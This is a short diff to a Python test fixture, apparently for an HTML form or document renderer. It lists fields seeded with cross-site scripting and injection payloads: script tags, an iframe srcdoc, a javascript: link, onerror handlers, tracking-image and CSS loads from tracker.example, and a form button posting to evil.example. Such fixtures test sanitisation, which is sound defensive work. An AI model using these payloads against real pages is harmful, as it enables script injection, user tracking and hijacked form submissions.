@@ -50,10 +50,10 @@ FIELDS = [
     Field("signatory-name", f"Ann </td>{SCRIPT}"),
     Field("signatory-role", f"Chair <iframe srcdoc='{SCRIPT}'></iframe>"),
     Field("extra-label", f"Owner <a href=javascript:{RUN}>x</a>"),
-    Field("extra-value", f"Trust ![t](https://tracker.example/v.gif)"),
+    Field("extra-value", "Trust ![t](https://tracker.example/v.gif)"),
     Field("form-column", f"Date {ONERROR}"),
-    Field("form-table-title", f"Log <style>body{{background:url(https://tracker.example/s.png)}}</style>"),
-    Field("form-field-label", f"Name <button formaction=https://evil.example/>go</button>"),
+    Field("form-table-title", "Log <style>body{background:url(https://tracker.example/s.png)}</style>"),
+    Field("form-field-label", "Name <button formaction=https://evil.example/>go</button>"),
     Field("variable-value", f"Ann {ONERROR}"),
     Field("variable-default", f"Head {SCRIPT}"),
 ]
